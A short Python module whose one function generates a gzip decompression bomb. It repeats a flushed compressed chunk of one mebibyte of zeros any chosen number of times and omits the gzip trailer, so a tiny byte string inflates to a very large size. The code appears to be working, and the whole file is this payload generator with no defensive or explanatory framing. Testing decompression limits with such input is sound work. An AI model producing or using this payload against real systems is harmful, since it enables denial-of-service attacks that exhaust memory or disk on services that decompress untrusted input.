"""A few bytes that unpack to many."""

import zlib

_MEBIBYTE = b"\0" * (1 << 20)


def gzip_bomb(mebibytes: int) -> bytes:
    """The gzip of so many zeros, a thousandth of their size, without the checksum at the end: no reader reaches it."""
    packer = zlib.compressobj(9, wbits=31)  # with the header of gzip, RFC 1952
    first, other = (packer.compress(_MEBIBYTE) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + (mebibytes - 1) * other
